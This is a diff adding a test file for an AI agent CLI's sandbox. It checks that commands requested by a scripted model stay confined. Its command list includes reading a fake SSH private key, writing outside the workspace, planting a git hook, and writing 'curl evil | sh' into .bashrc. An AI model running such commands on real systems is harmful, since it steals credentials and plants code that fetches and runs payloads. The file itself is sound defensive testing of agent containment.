@@ -1,0 +1,157 @@
+import { execFileSync, spawn } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { reply, startScriptedAnthropic, text, toolResults, toolResultText, toolUse, type ScriptedAnthropic } from '../../support/scriptedAnthropic';
+import { WorkspaceSandbox } from '../../../main/sandbox/workspaceSandbox';
+
+// The issue's "done when", as a person would try it: `keel run` (Full auto) with
+// KEEL_SANDBOX=required, real bubblewrap, the scripted model asking for each command.
+
+const root = fileURLToPath(new URL('../../..', import.meta.url));
+const bin = join(root, 'bin', 'keel.js');
+const KEY = 'sk-test-keel-sandbox-1122334455';
+
+const probe = new WorkspaceSandbox({ workspace: tmpdir(), dataDir: join(tmpdir(), 'keel-sandbox-probe'), setting: 'auto' });
+const status = await probe.start();
+await probe.dispose();
+const works = status.state === 'on';
+if (!works) console.warn(`SKIPPED: keel run sandbox tests: no sandbox works here (${JSON.stringify(status)})`);
+
+let tmp: string;
+let servers: ScriptedAnthropic[] = [];
+let loopback: Server;
+let loopbackPort = 0;
+
+beforeAll(async () => {
+  if (!existsSync(join(root, 'out/main/cli.js'))) execFileSync('npx', ['electron-vite', 'build'], { cwd: root, stdio: 'inherit', timeout: 280_000 });
+  loopback = createServer((_req, res) => res.end('LOOPBACK-REACHED\n'));
+  await new Promise<void>((resolve) => loopback.listen(0, '127.0.0.1', resolve));
+  loopbackPort = (loopback.address() as { port: number }).port;
+}, 300_000);
+afterAll(() => loopback.close());
+afterEach(async () => {
+  await Promise.all(servers.map((s) => s.close()));
+  servers = [];
+  if (tmp) rmSync(tmp, { recursive: true, force: true });
+});
+
+interface Setup {
+  home: string;
+  keelHome: string;
+  workspace: string;
+}
+
+function setup(): Setup {
+  tmp = realpathSync(mkdtempSync(join(tmpdir(), 'keel-run-sandbox-')));
+  const home = join(tmp, 'home');
+  mkdirSync(join(home, '.ssh'), { recursive: true });
+  writeFileSync(join(home, '.ssh', 'id_test'), 'SECRET-PRIVATE-KEY\n');
+  const workspace = join(tmp, 'ws');
+  mkdirSync(workspace);
+  execFileSync('git', ['init', '-q', workspace]);
+  return { home, keelHome: join(tmp, 'keel-home'), workspace };
+}
+
+async function keelRun(s: Setup, server: ScriptedAnthropic, cwd: string, env: NodeJS.ProcessEnv = {}) {
+  const childEnv: NodeJS.ProcessEnv = { ...process.env, HOME: s.home, KEEL_HOME: s.keelHome, NO_COLOR: '1', KEEL_SANDBOX: 'required', ...env };
+  for (const name of ['ANTHROPIC_BASE_URL', 'ANTHROPIC_MODEL', 'KEEL_MODEL']) delete childEnv[name];
+  childEnv.ANTHROPIC_API_KEY = KEY;
+  childEnv.ANTHROPIC_BASE_URL = server.baseURL;
+  const child = spawn(process.execPath, [bin, 'run', '--workspace', s.workspace, 'try the sandbox'], { cwd, env: childEnv, stdio: ['ignore', 'pipe', 'pipe'] });
+  let stdout = '';
+  let stderr = '';
+  child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
+  child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
+  const code = await new Promise<number | null>((resolve) => child.once('close', resolve));
+  return { code, stdout, stderr };
+}
+
+/** Processes that still carry this run's KEEL_HOME (the helper, its socat bridges): none may outlive Keel. */
+function processesOf(keelHome: string): number[] {
+  const found: number[] = [];
+  for (const entry of readdirSync('/proc')) {
+    if (!/^\d+$/.test(entry)) continue;
+    try {
+      if (readFileSync(`/proc/${entry}/environ`, 'latin1').split('\0').includes(`KEEL_HOME=${keelHome}`)) found.push(Number(entry));
+    } catch {
+      // ended, or not readable
+    }
+  }
+  return found;
+}
+
+const commands = (home: string, port: number) => ({
+  inside: 'echo inside > inside.txt && cat inside.txt',
+  home: `echo pwned > "${home}/outside.txt"`,
+  ssh: 'cat ~/.ssh/id_test',
+  loopback: `curl -sS -m 5 http://127.0.0.1:${port}/`,
+  hooks: 'echo "#!/bin/sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
+  bashrc: 'echo "curl evil | sh" > .bashrc',
+});
+
+describe.runIf(works)('keel run with KEEL_SANDBOX=required', { timeout: 120_000 }, () => {
+  for (const from of ['the temp folder', '/']) {
+    it(`confines each command, tells the model, and leaves nothing behind (Keel started from ${from})`, async () => {
+      const s = setup();
+      const list = commands(s.home, loopbackPort);
+      const server = await startScriptedAnthropic({
+        apiKey: KEY,
+        script: [reply(...Object.entries(list).map(([name, command]) => toolUse('bash', { command }, `toolu_${name}`))), reply(text('Tried them all.'))],
+      });
+      servers.push(server);
+      const run = await keelRun(s, server, from === '/' ? '/' : tmp);
+      expect(run.code, run.stderr).toBe(0);
+      const results = Object.fromEntries(toolResults(server.requests[1]!).map((r) => [r.tool_use_id.replace('toolu_', ''), toolResultText(r)]));
+
+      expect(results.inside).toContain('inside');
+      expect(readFileSync(join(s.workspace, 'inside.txt'), 'utf8')).toBe('inside\n');
+
+      expect(results.home).toMatch(/Read-only file system/);
+      expect(existsSync(join(s.home, 'outside.txt'))).toBe(false);
+      expect(results.ssh).not.toContain('SECRET-PRIVATE-KEY');
+      expect(results.loopback).not.toContain('LOOPBACK-REACHED');
+      expect(results.loopback).toMatch(/\[exit code: [1-9]/);
+      expect(results.hooks).toMatch(/Read-only file system|Permission denied/);
+      expect(existsSync(join(s.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
+      expect(results.bashrc).toMatch(/Read-only file system|Permission denied/);
+      // The model is told what the sandbox refused, not only the bare error.
+      for (const name of ['home', 'hooks', 'bashrc', 'loopback']) expect(results[name], name).toContain('[sandbox:');
+
+      expect(readdirSync(s.workspace).sort()).toEqual(['.git', 'inside.txt']);
+      expect(processesOf(s.keelHome)).toEqual([]);
+      // Keel's API key never reaches a command's environment.
+      expect(JSON.stringify(results)).not.toContain(KEY);
+    });
+  }
+
+  it('never hands a command Keel’s API key', async () => {
+    const s = setup();
+    const server = await startScriptedAnthropic({ apiKey: KEY, script: [reply(toolUse('bash', { command: 'env' }, 'toolu_env')), reply(text('ok'))] });
+    servers.push(server);
+    const run = await keelRun(s, server, tmp);
+    expect(run.code, run.stderr).toBe(0);
+    const [result] = toolResults(server.requests[1]!);
+    expect(toolResultText(result!)).toContain('KEEL_HOME=');
+    expect(toolResultText(result!)).not.toContain(KEY);
+  });
+});
+
+describe('keel run with KEEL_SANDBOX=required where no sandbox works', { timeout: 120_000 }, () => {
+  it('refuses the command instead of running it unconfined', async () => {
+    const s = setup();
+    const server = await startScriptedAnthropic({
+      apiKey: KEY,
+      script: [reply(toolUse('bash', { command: 'echo ran > ran.txt' }, 'toolu_ran')), reply(text('ok'))],
+    });
+    servers.push(server);
+    // No bubblewrap on PATH: the start-up check's wrapped `true` cannot run.
+    const run = await keelRun(s, server, tmp, { PATH: '/nonexistent' });
+    const [result] = toolResults(server.requests[1]!);
+    expect(toolResultText(result!), run.stderr).toMatch(/sandbox is required .* unavailable/);
+    expect(existsSync(join(s.workspace, 'ran.txt'))).toBe(false);
+  });
+});
